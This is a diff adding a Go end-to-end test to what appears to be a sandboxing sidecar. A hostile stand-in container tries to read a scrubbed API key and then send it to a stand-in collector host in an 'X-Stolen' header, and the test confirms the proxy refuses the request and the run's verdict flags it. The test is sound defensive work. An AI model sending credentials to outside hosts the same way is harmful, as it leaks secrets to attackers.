@@ -4,6 +4,7 @@ package e2e
 
 import (
 	"encoding/base64"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net"
@@ -14,6 +15,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/mcpsidecar/mcpsidecar/internal/verdict"
 )
@@ -143,4 +145,72 @@ func mustRequest(t *testing.T, method, target, body, header, value string) *http
 		r.Header.Set(header, value)
 	}
 	return r
+}
+
+// TestHeldValueChainInRun is the chain inside a real run (issue 27): a
+// hostile stand-in for the workload, on the run's internal network, asks
+// the model host's echo endpoint for its answer through the credential
+// listener (the real key the gateway injects comes back scrubbed: the
+// stand-in reads none of it), then sends the key it "learned" anyway
+// through the proxy port to the Learn host, in a header (refused before
+// any dial). The run's verdict fails with the held-value check, naming
+// both hosts; no file of the run holds the key.
+func TestHeldValueChainInRun(t *testing.T) {
+	NeedDocker(t)
+	s := agPrepare(t)
+	r := crStart(t, s, "task", "--x-workload-cmd", "x-sleep,25s")
+	placeholder := crEnv(t, crInspect(t, r.id, "agent", 2*time.Minute))["OPENAI_API_KEY"]
+	crWaitRunning(t, r.id, "agent", 2*time.Minute)
+	internal := ""
+	for _, n := range strings.Fields(docker(t, "network", "ls", "--format", "{{.Name}}", "--filter", "label=mcpsidecar.e2e="+r.id)) {
+		if strings.HasSuffix(n, "-internal") {
+			internal = n
+		}
+	}
+	if internal == "" || placeholder == "" {
+		t.Fatalf("internal network %q, placeholder %q", internal, placeholder)
+	}
+	send := func(args ...string) string {
+		name := "mcpsidecar-e2e-" + r.id + "-hostile-" + RandHex(3)
+		t.Cleanup(func() { dockerErr("rm", "-f", name) })
+		base := []string{"run", "--rm", "--name", name, "--label", "mcpsidecar.test=1", "--network", internal,
+			"--read-only", "--cap-drop", "ALL", "--security-opt", "no-new-privileges", "--user", "65532:65532", s.image, "send"}
+		return docker(t, append(base, args...)...)
+	}
+	echoed := send("--url", "http://egress-gateway:3129/"+agModelHost+"/v1/echo", "--header", "Authorization: Bearer "+placeholder)
+	if strings.Contains(echoed, s.key) || !strings.Contains(echoed, "Bearer ***") {
+		t.Errorf("the echoed answer the stand-in read: %s; want the key scrubbed", echoed)
+	}
+	carried := send("--url", "http://"+agLearnHost+"/collect", "--proxy", "http://egress-gateway:3128", "--header", "X-Stolen: "+s.key)
+	if !strings.Contains(carried, `"status":403`) {
+		t.Errorf("sending the key through the proxy: %s; want 403", carried)
+	}
+	r.wait(t)
+	runDir := agOnlyRunDir(t, r.runsDir)
+	var md struct {
+		Verdict struct {
+			OK     bool `json:"ok"`
+			Checks []struct {
+				Name, Detail string
+				OK           bool
+			} `json:"checks"`
+		} `json:"verdict"`
+	}
+	if err := json.Unmarshal([]byte(agRead(t, filepath.Join(runDir, "run-metadata.json"))), &md); err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, c := range md.Verdict.Checks {
+		if c.Name == verdict.CheckHeldValues {
+			found = true
+			if c.OK || !strings.Contains(c.Detail, agModelHost+":80 reflected") || !strings.Contains(c.Detail, "a request to "+agLearnHost+":80 carried") {
+				t.Errorf("check %q: ok %v, %s; want it failed naming both hosts", c.Name, c.OK, c.Detail)
+			}
+		}
+	}
+	if !found || md.Verdict.OK {
+		t.Errorf("verdict ok %v, held-value check present %v", md.Verdict.OK, found)
+	}
+	agCheckNoSecret(t, runDir, s.key)
+	agCheckNothingLeft(t, r.id)
 }
